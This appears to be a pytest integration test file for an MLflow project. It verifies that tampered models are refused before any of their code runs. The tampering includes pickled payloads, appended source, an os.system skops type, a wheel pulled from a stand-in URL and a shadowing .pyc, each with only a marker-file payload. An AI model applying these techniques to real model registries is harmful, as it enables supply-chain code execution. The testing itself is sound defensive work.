"""Attacks by someone with a trainer's rights (EDIT: log runs and models, write tags, move an
alias), each performed for real against a store holding the project's models, and each
refused with nothing run, changed or deleted.

The crafted models carry a payload that writes a marker file when any of its code runs:
the marker must never appear."""

import json
import logging
import os
import py_compile
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import cloudpickle
import mlflow
import pytest
import yaml
from mlflow.exceptions import MlflowException

from steps import batch_score as batch_score_step
from steps import custom_model as custom_model_step
from steps import register as register_step
from tabular_mlops.cli import serve
from tabular_mlops.core.names import Tag
from tabular_mlops.jobs.register import register
from tabular_mlops.mlflow import deserialization, registry
from tests.conftest import (
    CHURN_CONFIG,
    copy_of_trained_store,
    leave_no_run_behind,
    point_mlflow_at,
    shipped_config,
    shipped_config_file,
)

pytestmark = pytest.mark.integration

PIPELINES, SERVICE = "churn-classifier", "churn-service"
MARKER_VARIABLE = "ATTACK_MARKER"  # where a payload writes when it runs


class Payload(mlflow.pyfunc.PythonModel):
    """A model whose loading runs code of its author's: it leaves a marker."""

    def load_context(self, context: Any) -> None:
        Path(os.environ[MARKER_VARIABLE]).write_text("the payload ran")

    def predict(self, context: Any, model_input: Any, params: Any = None) -> Any:
        return model_input


@dataclass(frozen=True)
class Store:
    uri: str
    directory: Path
    marker: Path
    config: Path  # the shipped config, its paths absolute (steps run in the store's folder)

    def assert_nothing_ran(self) -> None:
        assert not self.marker.exists(), "the crafted model's code ran"


@pytest.fixture
def store(trained_store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Store]:
    copy_of_trained_store(trained_store, tmp_path)
    uri = point_mlflow_at(tmp_path, monkeypatch)
    marker = tmp_path / "payload-ran"
    monkeypatch.setenv(MARKER_VARIABLE, str(marker))
    yield Store(uri, tmp_path, marker, shipped_config_file(tmp_path))
    leave_no_run_behind()


def the_run_of(name: str) -> mlflow.entities.Run:
    version = mlflow.MlflowClient().get_model_version(name, "1")
    return mlflow.get_run(version.run_id)


# What an attacker does to a copy of a real model of the project, before logging it.


def dual_flavor(model: Path) -> None:
    """The sklearn flavor still says skops; python_function loads a cloudpickled model."""
    (model / "python_model.pkl").write_bytes(cloudpickle.dumps(Payload()))
    mlmodel = yaml.safe_load((model / "MLmodel").read_text())
    pyfunc = mlmodel["flavors"]["python_function"]
    pyfunc.pop("model_code_path", None)
    pyfunc |= {"loader_module": "mlflow.pyfunc.model", "python_model": "python_model.pkl"}
    (model / "MLmodel").write_text(yaml.safe_dump(mlmodel))


def tampered_code(model: Path) -> None:
    """The shipped package's source, with a payload appended."""
    module = model / "code" / "tabular_custom_model" / "inputs.py"
    module.write_text(
        module.read_text() + "\nimport os, pathlib\n"
        f"pathlib.Path(os.environ['{MARKER_VARIABLE}']).write_text('the payload ran')\n"
    )


def untrusted_skops_type(model: Path) -> None:
    """A pipeline whose skops file holds a function it calls (os.system here), with the
    model's own list of trusted types saying so."""
    import skops.io
    from sklearn.preprocessing import FunctionTransformer

    stock = model / "artifacts" / "pipeline"
    skops.io.dump(FunctionTransformer(func=os.system), stock / "model.skops")
    extra = skops.io.get_untrusted_types(file=stock / "model.skops")
    for mlmodel_path in (model / "MLmodel", stock / "MLmodel"):
        mlmodel = yaml.safe_load(mlmodel_path.read_text())
        flavor = mlmodel["flavors"]["sklearn"]
        flavor["skops_trusted_types"] = sorted(set(flavor["skops_trusted_types"]) | set(extra))
        mlmodel_path.write_text(yaml.safe_dump(mlmodel))


def requirement_from_a_url(model: Path) -> None:
    """What `--env-manager uv|virtualenv` would install for it: a package from anywhere."""
    requirements = model / "requirements.txt"
    requirements.write_text(requirements.read_text() + "\nhelper @ https://example.invalid/h.whl\n")


def compiled_payload(model: Path) -> None:
    """A .pyc beside the shipped source, which Python runs instead of it (an unchecked-hash
    pyc is never compared with its source)."""
    source = model / "code" / "tabular_custom_model" / "inputs.py"
    payload = source.with_name("payload.py")
    payload.write_text(
        source.read_text() + "\nimport os, pathlib\n"
        f"pathlib.Path(os.environ['{MARKER_VARIABLE}']).write_text('the payload ran')\n"
    )
    compiled = source.parent / "__pycache__" / "inputs.cpython-311.pyc"
    compiled.parent.mkdir(exist_ok=True)
    py_compile.compile(
        str(payload),
        cfile=str(compiled),
        invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
    )
    payload.unlink()


CRAFTS: dict[str, tuple[Callable[[Path], None], str]] = {
    "dual flavor": (dual_flavor, "its python_function model is a cloudpickle (python_model)"),
    "tampered code": (
        tampered_code,
        "code/tabular_custom_model/inputs.py is not code this project ships",
    ),
    "untrusted skops type": (
        untrusted_skops_type,
        "artifacts/pipeline/model.skops holds type posix.system, which this project does not trust",
    ),
    "requirement from a URL": (
        requirement_from_a_url,
        "requirements.txt installs 'helper @ https://example.invalid/h.whl'",
    ),
}


def crafted_run(
    model_of: str, craft: Callable[[Path], None], scratch: Path, roc_auc: float = 0.99
) -> tuple[str, str]:
    """A run like the one that logged `model_of`'s version 1 (its params and tags: same
    data, same split), with a forged `roc_auc`, that logs that model crafted: its run id
    and model URI."""
    genuine = the_run_of(model_of)
    source = Path(
        mlflow.artifacts.download_artifacts(genuine.data.tags[Tag.MODEL_URI], dst_path=scratch)
    )
    for compiled in source.rglob("__pycache__"):
        shutil.rmtree(compiled)
    craft(source)
    tags = {key: value for key, value in genuine.data.tags.items() if "." not in key}
    with mlflow.start_run(experiment_id=genuine.info.experiment_id, tags=tags) as run:
        mlflow.log_params(genuine.data.params)
        mlflow.log_metrics(genuine.data.metrics | {"roc_auc": roc_auc})
        model = mlflow.initialize_logged_model(name="model", source_run_id=run.info.run_id)
        mlflow.MlflowClient().log_model_artifacts(model.model_id, str(source))
        mlflow.finalize_logged_model(model.model_id, "READY")
        uri = f"models:/{model.model_id}"
        mlflow.set_tag(Tag.MODEL_URI, uri)
    return run.info.run_id, uri


def review_argv(store: Store, *more: str) -> list[str]:
    return ["--config", str(store.config), *more]


def error_lines(caplog: pytest.LogCaptureFixture) -> list[str]:
    return [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR]


@pytest.mark.parametrize("craft", CRAFTS)
def test_register_refuses_a_crafted_candidate_before_anything_of_it_runs(
    store: Store, tmp_path: Path, caplog: pytest.LogCaptureFixture, craft: str
) -> None:
    crafted, why = CRAFTS[craft]
    run_id, uri = crafted_run(PIPELINES, crafted, tmp_path / "crafted")
    with caplog.at_level(logging.ERROR):
        assert register_step.main(review_argv(store, "--run-id", run_id)) == 1
    (line,) = error_lines(caplog)
    assert line.startswith(f"model {uri} refused: {why}")
    assert line.endswith("; load it only if you trust whoever logged it (-P allow_pickle=true)")
    store.assert_nothing_ran()
    assert len(mlflow.MlflowClient().search_model_versions(f"name = '{PIPELINES}'")) == 1


def test_a_routine_review_skips_a_crafted_best_run_and_reviews_the_real_one(
    store: Store, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    crafted, _ = crafted_run(PIPELINES, dual_flavor, tmp_path / "crafted", roc_auc=0.99)
    with caplog.at_level(logging.WARNING):
        decision = register(shipped_config()).decision
    assert decision is not None
    assert decision.candidate_run_id == the_run_of(PIPELINES).info.run_id
    assert decision.verdict == "passed"
    assert any(f"skipping run {crafted}: model models:/" in r.getMessage() for r in caplog.records)
    store.assert_nothing_ran()


def test_a_tag_pointing_at_another_runs_model_is_refused(
    store: Store, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    genuine = the_run_of(PIPELINES)
    theirs = genuine.data.tags[Tag.MODEL_URI]
    with mlflow.start_run(experiment_id=genuine.info.experiment_id) as run:
        mlflow.set_tag(Tag.MODEL_URI, theirs)
    with caplog.at_level(logging.ERROR):
        assert register_step.main(review_argv(store, "--run-id", run.info.run_id)) == 1
    assert error_lines(caplog) == [
        f"run {run.info.run_id}'s {Tag.MODEL_URI} tag names {theirs}, a model logged by run "
        f"{genuine.info.run_id}: a candidate's model must be its own"
    ]


def test_compiled_files_that_come_with_a_model_never_run(store: Store, tmp_path: Path) -> None:
    run_id, _ = crafted_run(PIPELINES, compiled_payload, tmp_path / "crafted", roc_auc=0.5)
    decision = register(shipped_config(), run_id=run_id, dry_run=True).decision
    assert decision is not None and decision.verdict in ("passed", "rejected")
    store.assert_nothing_ran()  # the checked source ran, not the pyc beside it


def test_a_crafted_champion_stops_a_review_in_one_line(
    store: Store, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    _, uri = crafted_run(PIPELINES, dual_flavor, tmp_path / "crafted", roc_auc=0.5)
    client = mlflow.MlflowClient()
    version = client.create_model_version(PIPELINES, uri, model_id=uri.removeprefix("models:/"))
    client.set_registered_model_alias(PIPELINES, "champion", version.version)  # EDIT may
    with caplog.at_level(logging.ERROR):
        assert register_step.main(review_argv(store)) == 1
    (line,) = error_lines(caplog)
    assert line.startswith(f"model models:/{PIPELINES}/{version.version} refused: its python")
    store.assert_nothing_ran()


def test_custom_model_refuses_a_crafted_pipeline(
    store: Store, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    _, uri = crafted_run(PIPELINES, untrusted_skops_type, tmp_path / "crafted")
    argv = review_argv(store, "--model-uri", uri, "--check-env-manager", "none")
    with caplog.at_level(logging.ERROR):
        assert custom_model_step.main(argv) == 1
    (line,) = error_lines(caplog)
    assert line.startswith(f"model {uri} refused: artifacts/pipeline/model.skops holds type")
    assert len(mlflow.MlflowClient().search_model_versions(f"name = '{SERVICE}'")) == 1
    store.assert_nothing_ran()


def test_batch_score_refuses_a_crafted_model_behind_the_alias(
    store: Store, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    _, uri = crafted_run(SERVICE, dual_flavor, tmp_path / "crafted", roc_auc=0.5)
    client = mlflow.MlflowClient()
    version = client.create_model_version(SERVICE, uri, model_id=uri.removeprefix("models:/"))
    client.set_registered_model_alias(SERVICE, "champion", version.version)
    rows, output = tmp_path / "rows.csv", tmp_path / "scores"
    shutil.copy(CHURN_CONFIG.parent.parent / "data" / "wa_churn.csv", rows)
    argv = review_argv(store, "--input", str(rows), "--output", str(output))
    with caplog.at_level(logging.ERROR):
        assert batch_score_step.main(argv) == 1
    (line,) = error_lines(caplog)
    assert line.startswith(f"model models:/{SERVICE}/{version.version} refused: its python")
    assert not output.exists()
    store.assert_nothing_ran()


def test_the_documented_serve_command_refuses_a_crafted_champion_before_serving(
    store: Store, tmp_path: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, uri = crafted_run(SERVICE, dual_flavor, tmp_path / "crafted", roc_auc=0.5)
    client = mlflow.MlflowClient()
    version = client.create_model_version(SERVICE, uri, model_id=uri.removeprefix("models:/"))
    client.set_registered_model_alias(SERVICE, "champion", version.version)
    started: list[list[str]] = []
    monkeypatch.setattr(serve, "start", lambda command, env: started.append(command))
    argv = [f"models:/{SERVICE}@champion", "--config", str(store.config), "-p", "5001"]
    with caplog.at_level(logging.ERROR):
        assert serve.main(argv) == 2
    (line,) = error_lines(caplog)
    assert line.startswith(f"model models:/{SERVICE}@champion refused: its python_function")
    assert started == []  # no server started
    store.assert_nothing_ran()


def test_the_serve_command_serves_the_genuine_champion_from_its_checked_copy(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    started: list[tuple[list[str], str, bool]] = []

    class Server:
        def __init__(self, command: list[str], env: dict[str, str]) -> None:
            model_dir = Path(command[command.index("-m", 2) + 1])
            started.append((command, env[deserialization.SWITCH], (model_dir / "MLmodel").exists()))

        def wait(self) -> int:
            return 0

    monkeypatch.setattr(serve, "start", Server)
    argv = [f"models:/{SERVICE}@champion", "--config", str(store.config), "-p", "5001"]
    assert serve.main(argv) == 0
    ((command, switch, model_there),) = started
    assert command[1:5] == ["-m", "mlflow", "models", "serve"] and command[-2:] == ["-p", "5001"]
    assert switch == "false" and model_there  # the checked copy, MLflow's pickle switch off
    assert not Path(command[command.index("-m", 2) + 1]).exists()  # removed after


def test_a_step_leaves_mlflow_refusing_any_load_that_skipped_the_check(
    store: Store, tmp_path: Path
) -> None:
    _, uri = crafted_run(PIPELINES, dual_flavor, tmp_path / "crafted", roc_auc=0.5)
    with deserialization.forbidden(allow_pickle=False), pytest.raises(MlflowException):
        mlflow.pyfunc.load_model(uri)  # as a path that forgot the check would
    store.assert_nothing_ran()


def test_a_planted_alias_deletion_is_not_applied_by_any_register(store: Store) -> None:
    genuine = the_run_of(SERVICE)
    record = {"moves": {"champion": None}, "run_id": genuine.info.run_id}
    record |= {"process": "elsewhere 1 1", "written_at": 0}
    mlflow.MlflowClient().set_registered_model_tag(SERVICE, Tag.ALIAS_MOVES, json.dumps(record))
    config = shipped_config({"tracking.registered_model_name": SERVICE})
    for action, dry_run in (("list", False), ("promote", True), ("rollback", False)):
        try:
            register(config, action, dry_run=dry_run)
        except Exception:  # nothing to roll back to: what matters is the alias below
            leave_no_run_behind()
        assert registry.aliases(SERVICE) == {"champion": 1}
